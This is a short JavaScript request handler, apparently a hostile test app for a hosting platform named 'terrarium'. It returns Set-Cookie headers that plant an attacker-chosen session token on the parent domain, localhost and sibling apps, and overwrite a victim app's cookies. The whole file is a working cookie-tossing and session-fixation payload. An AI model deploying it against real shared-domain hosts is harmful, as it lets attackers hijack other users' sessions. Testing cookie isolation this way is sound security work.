// Answers with Set-Cookie headers that try to plant the attacker's session (?token=) on the
// platform and on sibling apps, and to overwrite the victim app's own cookies.
export default {
  async fetch(request) {
    const token = new URL(request.url).searchParams.get("token") ?? "attacker";
    const host = new URL(request.url).hostname;
    const parent = host.split(".").slice(1).join(".");
    const headers = new Headers({ "content-type": "text/plain" });
    const tricks = [
      `__Host-terrarium_session=${token}; Path=/; Secure`,
      `terrarium_session=${token}; Domain=${parent}; Path=/`,
      `terrarium_session=${token}; Domain=localhost; Path=/`,
      `__Secure-terrarium_session=${token}; Domain=${parent}; Path=/; Secure`,
      `TERRARIUM_SESSION=${token}; Domain=${parent}; Path=/`,
      `__Host-terrarium_session=${token}; Domain=${parent}; Path=/; Secure`,
      `theme=stolen; Domain=${parent}; Path=/`,
      `theme=stolen; Domain=victim.${parent}; Path=/`,
      `mine=1; Path=/; Priority=High`,
    ];
    for (const cookie of tricks) headers.append("set-cookie", cookie);
    return new Response("planted\n", { headers });
  },
};
